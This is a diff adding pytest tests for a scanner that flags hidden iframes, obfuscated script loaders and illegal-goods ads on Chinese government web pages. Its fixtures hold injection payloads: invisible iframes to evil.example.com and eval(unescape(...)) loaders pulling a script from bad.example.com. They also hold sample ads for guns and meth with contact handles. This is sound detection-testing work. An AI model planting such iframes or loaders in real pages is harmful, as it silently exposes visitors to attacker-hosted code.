@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from govinspect.text.hidden_links import find_html_threats
+from govinspect.text.hidden_links import find_html_threats, find_illegal_text
 
 PAGE = "http://www.example.gov.cn/art/2020/4/9/art_1_2.html"
 
@@ -72,3 +72,66 @@ def test_injected_scripts() -> None:
         "时时彩</a></div>');</script>"
     )
     assert ("security.malicious_script", "veto") in checks(writer)
+
+
+def test_hidden_iframe_to_an_outside_host_is_a_veto() -> None:
+    for frame in (
+        '<iframe src="//198.51.100.7:8080/x/1.html" width="0" height="0" frameborder="0"></iframe>',
+        '<iframe src="http://evil.example.com/a.htm" width=1 height=1></iframe>',
+        '<iframe src="http://evil.example.com/a.htm" style="display:none"></iframe>',
+        '<div style="position:absolute;left:-9999px"><iframe src="http://evil.example.com/a.htm"></iframe></div>',
+    ):
+        found = find_html_threats(page(frame), page_url=PAGE)
+        assert [(f.check, f.severity) for f in found] == [("security.malicious_script", "veto")], frame
+        assert found[0].evidence["pattern"] == "hidden_iframe"
+    assert checks(page("") + '<iframe src="http://evil.example.com/a.htm"></iframe>') == [
+        ("security.malicious_script", "veto")
+    ]  # appended after </html>
+    # only inside a hidden block: an inactive tab panel embedding a video looks the same
+    tab = '<div style="display:none"><iframe src="http://tv.example.com/play/1" width="640"></iframe></div>'
+    assert checks(page(tab)) == [("security.malicious_script", "notice")]
+
+
+def test_ordinary_iframes_are_fine() -> None:
+    for frame in (
+        '<iframe src="http://static.bshare.cn/cm.html" style="display: none;"></iframe>',  # share widget
+        '<iframe src="https://www.googletagmanager.com/ns.html?id=GTM-X" height="0" width="0"></iframe>',
+        '<iframe src="/form/submit.html" style="display:none"></iframe>',  # the site's own
+        '<iframe src="http://zwfw.example.gov.cn/sso" width="0" height="0"></iframe>',
+        '<iframe src="http://cdn.example.gov.cn.example.com/x" width="600" height="400"></iframe>',  # visible
+        '<iframe name="submitFrame" style="display:none"></iframe>',
+    ):
+        assert checks(page(frame)) == [], frame
+
+
+def test_obfuscated_loader_of_an_outside_script() -> None:
+    loader = "document.write(\"<script src='http://bad.example.com/j.js'></script>\")"
+    encoded = "".join(f"%{ord(c):02x}" for c in loader)
+    found = find_html_threats(page(f"<script>eval(unescape('{encoded}'))</script>"), page_url=PAGE)
+    assert [(f.check, f.severity) for f in found] == [("security.malicious_script", "veto")]
+    assert found[0].evidence["hosts"] == ["bad.example.com"]
+    codes = ",".join(str(ord(c)) for c in loader)
+    assert checks(page(f"<script>eval(String.fromCharCode({codes}))</script>")) == [
+        ("security.malicious_script", "veto")
+    ]
+    analytics = (
+        '<script>document.write(unescape("%3Cscript src=\'" + p + "hm.baidu.com/h.js%3Fabc\''
+        " type='text/javascript'%3E%3C/script%3E\"));</script>"
+    )
+    assert checks(page(analytics)) == []
+    assert checks(page("<script>var d = eval('(' + json + ')'); // document.write</script>")) == []
+
+
+def test_illegal_goods_advertised_in_plain_text() -> None:
+    found = find_illegal_text("出售高仿真枪支弹药，货到付款，联系QQ：335071899")
+    assert [(f.check, f.severity) for f in found] == [("content.illegal", "veto")]
+    assert [f.severity for f in find_illegal_text("低价出售冰毒 加V: abc123456")] == ["veto"]
+    assert [f.severity for f in find_illegal_text("气枪转让，价格面议")] == ["notice"]
+    for lawful in (
+        "警方破获一起非法出售仿真枪案件，缴获枪支12支，嫌疑人通过QQ联系买家。",
+        "严禁销售烟花爆竹和管制刀具，举报电话：13912345678",
+        "纳税人可申请代开发票，关注微信公众号：jxtax2020",
+        "射击队在10米气手枪比赛中夺冠",
+        "枪支弹药",
+    ):
+        assert find_illegal_text(lawful) == [], lawful
